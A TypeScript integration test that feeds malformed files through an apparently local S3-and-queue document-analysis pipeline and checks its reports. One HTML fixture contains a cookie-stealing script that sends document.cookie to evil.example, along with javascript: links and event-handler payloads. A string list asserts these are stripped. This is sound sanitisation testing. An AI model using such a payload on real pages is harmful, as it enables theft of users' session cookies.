/**
 * Every bad input of issue 6 through the LOCAL PIPELINE, end to end: real uploads into the
 * embedded S3, S3-shaped events on the queue, the real handler in Lambda-like child processes.
 * Each ends in a schema-valid report or a schema-valid error report (both validated), or, for a
 * folder marker only, in nothing but a log line. docs/bad-files.md lists the outcomes.
 *
 * The main stack has a 256 KiB size limit so the limit cases are cheap; the 5 MB paragraph runs
 * on a second stack with the deployed 10 MiB limit.
 */
import { GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FullReport as Report } from '../../functions/lib/analyze.ts';
import { NO_TEXT_WARNING } from '../../functions/lib/analyze.ts';
import type { ErrorReport } from '../../functions/lib/error-report.ts';
import {
  validateErrorReport,
  validateReport,
  validateReportParagraph,
} from '../../functions/lib/schema/validate.ts';
import { MAX_PARAGRAPH_CHARS } from '../../functions/lib/split.ts';
import { ERROR_REPORT_SUFFIX, PARAGRAPHS_SUFFIX, REPORT_SUFFIX } from '../../infra/settings.ts';
import { FaultInjector, installFaults } from '../helpers/fault-proxy.ts';
import { getJson, startTestStack, type TestStack } from '../helpers/local-stack.ts';
import { readSample } from '../helpers/samples.ts';

const LIMIT = 256 * 1024;
const enc = (text: string) => new TextEncoder().encode(text);
const PARAGRAPH = 'The council met on Monday in Leeds to discuss the new bridge over the river. ';

function utf16(text: string, bigEndian: boolean): Uint8Array {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  if (bigEndian) bytes.swap16();
  return new Uint8Array(bytes);
}

/** Text of exactly `size` bytes (ASCII), in paragraphs. */
function textOfSize(size: number): Uint8Array {
  let text = '';
  while (text.length < size) text += `${PARAGRAPH.repeat(4)}\n\n`;
  return enc(text.slice(0, size));
}

const PNG = new Uint8Array([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1,
  8, 6,
]);
const HOSTILE_HTML = `<!doctype html><html><head><title>Harbour news</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{background:url("javascript:alert(1)")}</style></head>
<body onload="steal()"><h1>Harbour reopens</h1>
<p onclick="alert('click')">The harbour in Dover reopened on Tuesday after repairs.</p>
<p>Read <a href="javascript:alert('link')">the statement</a> or <a href="https://example.org/a">the archive</a>.</p>
<img src="x" onerror="alert('img')"><iframe src="javascript:alert('frame')"></iframe>
<noscript>Enable scripts</noscript></body></html>`;
const FRENCH = `Le gouvernement français a annoncé mardi une nouvelle réforme des retraites. Les syndicats ont immédiatement appelé à la grève dans toute la France.

La ministre a défendu le projet devant l'Assemblée nationale, en promettant des négociations avec les partenaires sociaux avant la fin du mois.`;

/** A report or an error report (the checks know which one they get). */
type Output = Omit<Report, 'schemaVersion' | 'source'> &
  Omit<ErrorReport, 'schemaVersion' | 'source'> & { source: Report['source'] & ErrorReport['source'] };

interface Case {
  key: string;
  body: Uint8Array | string;
  expect: 'report' | 'error-report';
  check?: (output: Output) => void;
}

const CASES: Record<string, Case> = {
  'empty file': {
    key: 'bad/empty.txt',
    body: '',
    expect: 'report',
    check: (r) => {
      expect(r.paragraphs).toEqual([]);
      expect(r.warnings).toContain(NO_TEXT_WARNING);
    },
  },
  'white space only': {
    key: 'bad/blank.txt',
    body: ' \n\t\r\n   \u00a0\n\n',
    expect: 'report',
    check: (r) => {
      expect(r.paragraphs).toEqual([]);
      expect(r.warnings).toContain(NO_TEXT_WARNING);
    },
  },
  'PNG named .txt': {
    key: 'bad/picture.txt',
    body: PNG,
    expect: 'error-report',
    check: (r) => expect(r.error.code).toBe('BINARY_CONTENT'),
  },
  'invalid UTF-8 mixed with valid text': {
    key: 'bad/mixed-utf8.txt',
    body: new Uint8Array([...enc('Café in Zürich opened. '), 0xff, 0xfe, 0x80, ...enc(' The end.')]),
    expect: 'report',
    check: (r) => {
      expect(r.source.encoding).toBe('utf-8');
      expect(r.paragraphs[0].text).toContain('Café in Zürich');
      expect(r.warnings?.some((w) => /invalid UTF-8 byte/.test(w))).toBe(true);
    },
  },
  'UTF-8 with BOM': {
    key: 'bad/bom.txt',
    body: enc('\ufeffThe museum in Berlin reopened.'),
    expect: 'report',
    check: (r) => {
      expect(r.source.encoding).toBe('utf-8-bom');
      expect(r.paragraphs[0].text).toBe('The museum in Berlin reopened.');
    },
  },
  'UTF-16 LE with BOM': {
    key: 'bad/utf16le.txt',
    body: utf16('Le café in Paris served 300 guests.', false),
    expect: 'report',
    check: (r) => {
      expect(r.source.encoding).toBe('utf-16le');
      expect(r.paragraphs[0].text).toBe('Le café in Paris served 300 guests.');
    },
  },
  'UTF-16 BE with BOM': {
    key: 'bad/utf16be.txt',
    body: utf16('Le café in Paris served 300 guests.', true),
    expect: 'report',
    check: (r) => {
      expect(r.source.encoding).toBe('utf-16be');
      expect(r.paragraphs[0].text).toBe('Le café in Paris served 300 guests.');
    },
  },
  'Windows-1252': {
    key: 'bad/cp1252.txt',
    body: new Uint8Array([
      ...enc('The Caf'),
      0xe9,
      ...enc(' said '),
      0x93,
      ...enc('fine'),
      0x94,
      ...enc(' and charged 5'),
      0x80,
      0x2e,
    ]),
    expect: 'report',
    check: (r) => {
      expect(r.source.encoding).toBe('windows-1252');
      expect(r.paragraphs[0].text).toBe('The Café said “fine” and charged 5€.');
    },
  },
  'over the size limit': {
    key: 'bad/too-big.txt',
    body: textOfSize(LIMIT + 1),
    expect: 'error-report',
    check: (r) => {
      expect(r.error.code).toBe('DOCUMENT_TOO_LARGE');
      expect(r.source.size).toBe(LIMIT + 1);
    },
  },
  'exactly at the size limit': {
    key: 'bad/at-limit.txt',
    body: textOfSize(LIMIT),
    expect: 'report',
    check: (r) => expect(r.source.size).toBe(LIMIT),
  },
  'a 100,000-character word': {
    key: 'bad/long-word.txt',
    body: `A normal opening line.\n\n${'x'.repeat(100_000)}\n\nA normal closing line.`,
    expect: 'report',
    check: (r) => {
      // The word is over the paragraph limit: 5 pieces of 20,000 characters, each marked split.
      expect(r.paragraphs).toHaveLength(7);
      expect(r.paragraphs.slice(1, 6).map((p) => [p.text.length, p.split])).toEqual(
        Array(5).fill([MAX_PARAGRAPH_CHARS, true]),
      );
      expect(r.paragraphs[0].split).toBeUndefined();
    },
  },
  'control characters': {
    key: 'bad/control.txt',
    body: 'The report\u0007 from Oslo\u001b[31m arrived\u0001 late on Friday, with plenty of ordinary text around it.',
    expect: 'report',
    check: (r) => expect(r.paragraphs[0].text).toContain('Oslo'),
  },
  'NUL bytes': {
    key: 'bad/nul.txt',
    body: 'The report from Oslo\u0000\u0000 arrived late.',
    expect: 'error-report',
    check: (r) => expect(r.error.code).toBe('BINARY_CONTENT'),
  },
  'HTML with scripts, event handlers and javascript: links': {
    key: 'bad/hostile.html',
    body: HOSTILE_HTML,
    expect: 'report',
    check: (r) => {
      const text = r.paragraphs.map((p) => p.text).join('\n');
      expect(text).toContain('The harbour in Dover reopened on Tuesday after repairs.');
      const json = JSON.stringify(r);
      for (const bad of [
        '<script',
        'document.cookie',
        'javascript:',
        'onclick',
        'onerror',
        'onload',
        'alert(',
        'steal()',
        'evil.example',
      ]) {
        expect(json, bad).not.toContain(bad);
      }
    },
  },
  'a non-English (French) article': {
    key: 'bad/french.txt',
    body: FRENCH,
    expect: 'report',
    check: (r) => {
      expect(r.language).toBe('fr');
      expect(r.skippedStages).toEqual(['names', 'sentiment', 'keyPhrases']);
      expect(r.warnings?.some((w) => w.includes('Detected language "fr"'))).toBe(true);
      expect(r.paragraphs).toHaveLength(2);
    },
  },
  'a key with spaces, "+", "%", unicode, emoji and a deep prefix': {
    key: 'a/b/c/d/e/f/g/h/2026 Q1 + Q2/100% sure/Ünïcödé 日本 😀/file name (final).txt',
    body: readSample('news-river-flooding.txt'),
    expect: 'report',
  },
  'a key that looks URL-encoded': {
    key: 'keys/already%20encoded%2Bplus%zz.txt',
    body: 'A short article about Lisbon.',
    expect: 'report',
  },
};

let stack: TestStack;
let bigStack: TestStack;
const spy = new FaultInjector();
const FIVE_MB_KEY = 'bad/five-mb-paragraph.txt';
const FOLDER = 'bad/dir/';

beforeAll(async () => {
  [stack, bigStack] = await Promise.all([
    startTestStack({
      wiring: { maxDocumentBytes: LIMIT, maxBatchingWindowSeconds: 1 },
      logLevel: 'INFO',
      configureServer: installFaults(spy),
    }),
    startTestStack({ wiring: { concurrency: 1, maxBatchingWindowSeconds: 0 } }),
  ]);
  const paragraph = PARAGRAPH.repeat(Math.ceil((5 * 1024 * 1024) / PARAGRAPH.length)).slice(
    0,
    5 * 1024 * 1024,
  );
  await bigStack.s3.send(
    new PutObjectCommand({ Bucket: bigStack.wiring.inputBucket, Key: FIVE_MB_KEY, Body: paragraph }),
  );
  await Promise.all(
    [...Object.values(CASES), { key: FOLDER, body: '' }].map(({ key, body }) =>
      stack.s3.send(
        new PutObjectCommand({
          Bucket: stack.wiring.inputBucket,
          Key: key,
          Body: typeof body === 'string' ? enc(body) : body,
        }),
      ),
    ),
  );
});
afterAll(async () => {
  await Promise.all([stack?.stop(), bigStack?.stop()]);
});

async function outcome(target: TestStack, key: string, timeoutMs = 60_000) {
  const outputKey = await target.reportWritten(key, timeoutMs);
  const output = (await getJson(target.s3, target.wiring.outputBucket, outputKey)) as Output;
  if (outputKey === key + ERROR_REPORT_SUFFIX) validateErrorReport(output);
  else validateReport(output);
  return { outputKey, output };
}

describe('bad input through the local pipeline', () => {
  for (const [name, testCase] of Object.entries(CASES)) {
    it(`${name}: ${testCase.expect === 'report' ? 'a report' : 'an error report'}`, {
      timeout: 90_000,
    }, async () => {
      const { outputKey, output } = await outcome(stack, testCase.key);
      const suffix = testCase.expect === 'report' ? REPORT_SUFFIX : ERROR_REPORT_SUFFIX;
      expect(outputKey).toBe(testCase.key + suffix);
      expect(output.source.key).toBe(testCase.key);
      testCase.check?.(output);
    });
  }

  it('rejects the oversized object from its size, without downloading it', { timeout: 90_000 }, async () => {
    await outcome(stack, CASES['over the size limit'].key);
    const key = CASES['over the size limit'].key;
    expect(spy.count('HeadObject', key)).toBeGreaterThan(0);
    expect(spy.count('GetObject', key)).toBe(0);
    // The one at the limit was downloaded (the spy sees the handler's requests).
    expect(spy.count('GetObject', CASES['exactly at the size limit'].key)).toBe(1);
  });

  it('a 5 MB paragraph with no line breaks: a report, the paragraph split at sentence boundaries', {
    timeout: 150_000,
  }, async () => {
    const { output } = await outcome(bigStack, FIVE_MB_KEY, 140_000);
    // About 30 MB of paragraph JSON: over the 10 MiB split size, so the paragraphs are in the
    // JSON Lines file beside the summary.
    expect(output.paragraphs).toBeUndefined();
    expect(output.paragraphsFile?.key).toBe(FIVE_MB_KEY + PARAGRAPHS_SUFFIX);
    const response = await bigStack.s3.send(
      new GetObjectCommand({ Bucket: bigStack.wiring.outputBucket, Key: FIVE_MB_KEY + PARAGRAPHS_SUFFIX }),
    );
    const lines = ((await response.Body?.transformToString()) ?? '').trimEnd().split('\n');
    const paragraphs = lines.map((line) => JSON.parse(line) as Report['paragraphs'][number]);
    expect(paragraphs).toHaveLength(output.stats.paragraphs);
    expect(paragraphs.length).toBeGreaterThanOrEqual((5 * 1024 * 1024) / MAX_PARAGRAPH_CHARS);
    for (const paragraph of paragraphs) {
      validateReportParagraph(paragraph);
      expect(paragraph.split).toBe(true);
      expect(paragraph.text.length).toBeLessThanOrEqual(MAX_PARAGRAPH_CHARS);
    }
    expect(paragraphs.at(-1)?.end).toBeGreaterThan(5 * 1024 * 1024 - PARAGRAPH.length - 2);
    expect(bigStack.problems).toEqual([]);
  });

  it('a folder marker: no report, no error report, one log line', { timeout: 90_000 }, async () => {
    // Everything else is done by now; the marker was uploaded with them.
    await Promise.all(Object.values(CASES).map((c) => stack.reportWritten(c.key, 60_000)));
    const deadline = Date.now() + 20_000;
    const skipped = () =>
      stack.logs.some((line) => line.includes('folder marker skipped') && line.includes(`"key":"${FOLDER}"`));
    while (!skipped() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
    expect(skipped()).toBe(true);
    expect(spy.count('PutObject', FOLDER + REPORT_SUFFIX)).toBe(0);
    expect(spy.count('PutObject', FOLDER + ERROR_REPORT_SUFFIX)).toBe(0);
    expect(
      spy.requests.some((r) => r.operation === 'PutObject' && r.key?.startsWith(FOLDER) && r.key !== FOLDER),
    ).toBe(false);
  });

  it('nothing crashed, timed out or was redelivered', () => {
    expect(stack.problems).toEqual([]);
    expect(stack.poller.stats.retried).toBe(0);
    expect(stack.poller.stats.crashes + stack.poller.stats.timeouts + stack.poller.stats.errors).toBe(0);
  });
});
